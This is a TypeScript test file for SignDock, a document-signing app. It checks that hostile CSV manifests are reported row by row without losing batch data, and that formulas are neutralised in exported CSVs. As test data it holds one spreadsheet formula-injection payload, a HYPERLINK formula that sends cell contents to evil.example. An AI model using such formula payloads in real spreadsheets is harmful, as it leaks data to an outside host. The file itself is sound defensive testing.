import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCore, type Core } from '../../electron/core/host';
import { MemorySecretStore } from '../../electron/core/secrets/secret-store';
import type { Batch } from '../../shared/domain/batches';
import { parseManifest } from '../../shared/domain/manifest';
import { readRecords } from '../../shared/csv/csv-reader';
import { startsFormula } from '../../shared/csv/formula-guard';
import { corpusBytes, corpusFolder, loadCorpus, type ManifestCase } from '../helpers/hostile-corpus';
import { tenThousandRows } from '../helpers/hostile-generators';
import { writePdfs } from '../helpers/pdf-batch';
import { tempFolder } from '../helpers/temp-folder';
import { startSandbox, type Sandbox } from '../sandbox';

/**
 * Issue 15, the hostile-input corpus, manifests (test/fixtures/hostile/expected.json "manifests"):
 * missing columns, unknown files, formulas in cells, wrong encodings (UTF-16 with and without BOM,
 * Windows-1252, binary junk, an image), 10,000 rows. Each goes through `batches.importManifest`
 * twice — as a path (the Electron shell, the CLI) and as content (the web host) — onto a batch of
 * three PDFs that a good manifest prepared first: the problems name their row and column in plain
 * words, and the rows the hostile manifest does not validly name keep what they had.
 */

const corpus = loadCorpus();
const good = join(corpusFolder, 'manifests', 'good.csv');

describe('hostile manifests: each problem names its row and column; nothing else is lost', () => {
  let sandbox: Sandbox;
  let home: ReturnType<typeof tempFolder>;
  let files: ReturnType<typeof tempFolder>;
  let core: Core;

  const call = async <T>(name: string, input: unknown): Promise<T> => {
    const result = await core.dispatch(name, input);
    if (!result.ok) throw new Error(`${name}: ${result.error.code} ${result.error.message}`);
    return result.value as T;
  };
  const pathOf = (item: ManifestCase) => (item.generate ? join(files.path, item.file) : join(corpusFolder, 'manifests', item.file));
  const bytesOf = (item: ManifestCase) => (item.generate ? Buffer.from(tenThousandRows()) : corpusBytes('manifests', item.file));

  /** A batch of contract-001…003.pdf, titled and signed by good.csv. */
  const prepared = async (): Promise<Batch> => {
    const batch = await call<Batch>('batches.create', {});
    await call('batches.addFiles', { batchId: batch.id, paths: [files.path] });
    return call<Batch>('batches.importManifest', { batchId: batch.id, path: good });
  };

  beforeAll(async () => {
    sandbox = await startSandbox({ port: 0, seed: 16 });
    home = tempFolder('signdock-hostile-manifest-home-');
    files = tempFolder('signdock-hostile-manifest-files-');
    await writePdfs(files.path, 3, 'contract');
    for (const item of corpus.manifests.filter((m) => m.generate)) writeFileSync(pathOf(item), bytesOf(item));
    core = createCore({ dataFolder: home.path, hostKind: 'cli', version: '0', secrets: new MemorySecretStore() });
    await call('accounts.add', { name: 'Sandbox', baseUrl: sandbox.url, apiKey: sandbox.key });
  }, 60_000);
  afterAll(async () => {
    await core?.close();
    await sandbox?.stop();
    home?.remove();
    files?.remove();
  });

  it('every committed manifest has its line in expected.json, and every line its file', () => {
    const committed = readdirSync(join(corpusFolder, 'manifests')).sort();
    expect(
      corpus.manifests
        .filter((m) => !m.generate)
        .map((m) => m.file)
        .sort(),
    ).toEqual(committed);
  });

  for (const item of corpus.manifests) {
    for (const via of ['path', 'content'] as const) {
      it(`${item.file}, as ${via}`, async () => {
        const before = await prepared();
        const source = via === 'path' ? { path: pathOf(item) } : { fileName: item.file, contentBase64: bytesOf(item).toString('base64') };
        const result = await core.dispatch('batches.importManifest', { batchId: before.id, ...source });
        const batch = await call<Batch>('batches.get', { batchId: before.id });
        const byName = new Map(batch.items.map((row) => [row.fileName, row]));

        if (item.outcome === 'refused') {
          expect(result.ok).toBe(false);
          if (result.ok) return;
          expect(result.error).toMatchObject({ kind: 'InvalidInput', code: item.code, params: { file: item.file } });
          expect(result.error.message).toContain(`“${item.file}” ${via === 'content' ? item.contentMessage : item.message}`);
          // Refused as a whole: the batch is as the good manifest left it.
          expect(batch.items.map((row) => [row.fileName, row.title, row.signers])).toEqual(
            before.items.map((row) => [row.fileName, row.title, row.signers]),
          );
          return;
        }

        expect(result.ok, JSON.stringify(!result.ok && result.error)).toBe(true);
        // The first entry says what was applied (issue 16); the problems follow it.
        const report = batch.manifestProblems.filter((p) => p.code === 'manifest.applied');
        expect(report).toHaveLength(1);
        const problems = batch.manifestProblems
          .filter((p) => p.code !== 'manifest.applied')
          .map((p) => ({ code: p.code, row: p.row, field: p.field ?? null, message: p.message }));
        if (item.problemCount !== undefined) {
          expect(problems).toHaveLength(item.problemCount);
          for (const expected of item.problems ?? []) {
            const found = problems.find((p) => p.row === expected.row && p.code === expected.code);
            expect(found, JSON.stringify(expected)).toMatchObject({ field: expected.field });
            expect(found!.message).toContain(expected.message);
          }
        } else {
          expect(problems.map((p) => [p.code, p.row, p.field])).toEqual((item.problems ?? []).map((p) => [p.code, p.row, p.field]));
          problems.forEach((p, i) => expect(p.message).toContain(item.problems![i]!.message));
        }
        for (const [file, title] of Object.entries(item.titles ?? {})) expect(byName.get(file)?.title, file).toBe(title);
        for (const [file, emails] of Object.entries(item.emails ?? {})) {
          expect(
            byName.get(file)?.signers.map((s) => s.validations.EM),
            file,
          ).toEqual(emails);
        }
      });
    }
  }

  it('formulas stay text: sent as titles, and every CSV SignDock writes back neutralises them', async () => {
    let batch = await prepared();
    await call('batches.importManifest', { batchId: batch.id, path: join(corpusFolder, 'manifests', 'formulas.csv') });
    await core.batches.whenChecked(batch.id);
    await call('batches.send', { batchId: batch.id });
    await core.batches.whenSettled(batch.id);
    batch = await call<Batch>('batches.get', { batchId: batch.id });
    expect(batch.items.map((row) => [row.fileName, row.state])).toEqual([
      ['contract-001.pdf', 'sent'],
      ['contract-002.pdf', 'sent'],
      ['contract-003.pdf', 'sent'],
    ]);
    const titles = batch.items.map((row) => row.title);
    expect(titles).toContain('=HYPERLINK("https://evil.example/?q="&A1,"Open me")');

    const results = await call<{ text: string }>('batches.exportResults', { batchId: batch.id });
    const template = await call<{ text: string }>('batches.manifestTemplate', { batchId: batch.id });
    for (const text of [results.text, template.text]) {
      const cells = [',', ';'].flatMap((d) => readRecords(text.replace(/^\uFEFF/, ''), d).records.flat());
      expect(cells.filter(startsFormula)).toEqual([]);
    }
    // The template reads back to the same titles (the reader takes away the guard the writer put).
    expect(parseManifest(template.text).entries.map((entry) => entry.title)).toEqual(titles);
  });
});
